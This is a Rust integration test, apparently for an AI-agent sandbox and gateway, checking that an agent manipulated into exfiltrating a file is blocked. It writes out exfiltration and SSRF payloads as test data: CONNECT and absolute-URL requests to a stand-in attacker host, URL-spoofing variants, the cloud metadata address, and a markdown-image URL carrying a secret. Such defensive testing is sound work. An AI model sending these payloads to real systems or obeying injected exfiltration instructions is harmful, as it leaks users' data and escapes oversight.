//! "Send the file to evil.example": an agent that was talked into it, in a real box and at the real gateway, tries each way
//! there is. What a page makes of an image in its words is measured in a browser (`ui/e2e/10-egress.test.mjs`).

use crate::crash_tool::{SEND, letters};
use crate::grants::{misbehave, post, socket};
use crate::ledger::count;
use crate::stack::{Options, Stack};
use serde_json::{Value, json};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, UnixStream};
use tokio::time::timeout;

/// How long the gateway may take to say no.
const LONG: Duration = Duration::from_secs(60);

/// A server that nobody has named anywhere, which counts who connects.
async fn evil() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let at = listener.local_addr().unwrap().to_string();
    let came: Arc<AtomicUsize> = Arc::default();
    let counted = came.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    (at, came)
}

/// The status of what the gateway says to a request that is written by hand, as a proxy's client writes it.
async fn status(socket: &Path, request: &str) -> u16 {
    let mut stream = UnixStream::connect(socket).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut head = [0; 12];
    timeout(LONG, stream.read_exact(&mut head)).await.expect("the gateway says nothing").unwrap();
    String::from_utf8_lossy(&head).split(' ').nth(1).unwrap().parse().unwrap()
}

async fn send(socket: &Path, to: &str) -> Value {
    let params = json!({ "name": SEND, "arguments": { "to": to } });
    post(socket, "/mcp", &json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params })).await
}

/// T36: by a look-up, by an address, through the gateway as if it were a proxy, and in a tool's argument.
#[tokio::test(flavor = "multi_thread")]
async fn t36_no_way_of_a_box_leads_to_a_host_that_nobody_allowed() {
    let (server, (evil, came)) = (letters().await, evil().await);
    let config = Some(format!("[tools.servers.post]\nurl = {:?}\n", server.url));
    let mut stack = Stack::prepared(Options { config, ..Options::default() });
    stack.up(&[]).await;
    let document = stack.home().join("send.json");
    let tool = json!({
        "name": SEND, "scope": "post:send", "grant": "auto", "transport": "mcp", "mcp_server": "post", "barriers": [],
        "effect": "write", "idempotent": true,
        "constraints": [{ "on": "host", "argument": "/to", "allow": ["docs.acme.test"] }],
    });
    std::fs::write(&document, tool.to_string()).unwrap();
    stack.ok(&["tool", "add", document.to_str().unwrap()]).await;
    stack.ok(&["tool", "accept", SEND]).await;
    stack.grant("u_tester", "cli", &["--tool", SEND]).await;

    // In the box: no socket of the internet's can be made, for a name or for an address, by curl, git or anything else; and
    // there is no interface that could lead anywhere.
    let row = stack.run(&misbehave("call-home", &[])).await;
    assert_eq!(row["status"], "completed", "{row}");
    let said = stack.output(row["dispatch"].as_str().unwrap()).await;
    let (from, to) = (said.find('{').unwrap(), said.rfind('}').unwrap());
    let report: Value = serde_json::from_str(&said[from..=to]).unwrap_or_else(|e| panic!("{e}: {said}"));
    assert_eq!((&report["lookup"], &report["connect"]), (&json!("errno 1"), &json!("errno 1")), "{report}");

    let dispatch = stack.launch(&misbehave("silent", &["--tool", SEND])).await;
    stack.running(&dispatch).await;
    let door = socket(&stack, &dispatch);
    // The gateway is no proxy: it connects nobody, and goes nowhere because a request names a host.
    for request in [
        format!("CONNECT {evil} HTTP/1.1\r\nhost: {evil}\r\n\r\n"),
        format!("GET http://{evil}/?q=secret HTTP/1.1\r\nhost: {evil}\r\nconnection: close\r\n\r\n"),
        format!(
            "GET /repo.git/info/refs?service=git-upload-pack HTTP/1.1\r\nhost: {evil}\r\nconnection: close\r\n\r\n"
        ),
        format!("GET / HTTP/1.1\r\nhost: {evil}\r\nx-forwarded-host: {evil}\r\nconnection: close\r\n\r\n"),
    ] {
        let said = status(&door, &request).await;
        assert!((400..600).contains(&said), "{said} to {request}");
    }
    // A tool that may reach one host is not talked into another, however that is spelled. The honest one passes beside.
    let honest = send(&door, "https://docs.acme.test/plan").await;
    assert_eq!(honest["result"]["content"][0]["text"], "sent", "{honest}");
    let before = server.calls();
    let elsewhere = [
        "https://evil.example/?q=secret".to_owned(),
        "https://docs.acme.test.evil.example/".to_owned(),
        "https://docs.acme.test@evil.example/".to_owned(),
        "https://evil.example\\.docs.acme.test/".to_owned(),
        "http://169.254.169.254/latest/meta-data".to_owned(),
        "http://2852039166/".to_owned(),
        format!("http://{evil}/"),
        "![x](https://evil.example/p.png?q=secret)".to_owned(),
    ];
    for to in &elsewhere {
        let answer = send(&door, to).await;
        assert_eq!(answer["error"]["data"]["code"], "HOST_NOT_ALLOWED", "{to}: {answer}");
    }
    assert_eq!((server.calls(), came.load(Ordering::SeqCst)), (before, 0), "something left");
    // Each refusal is in the record.
    let refused = stack.events_of(&dispatch).await;
    assert_eq!(count(&refused, "effect.tool_refused"), elsewhere.len(), "{refused:#?}");

    stack.ok(&["dispatch", "kill", &dispatch]).await;
    stack.ended(&dispatch).await;
    stack.no_container_left().await;
    stack.nothing_is_wrong().await;
}
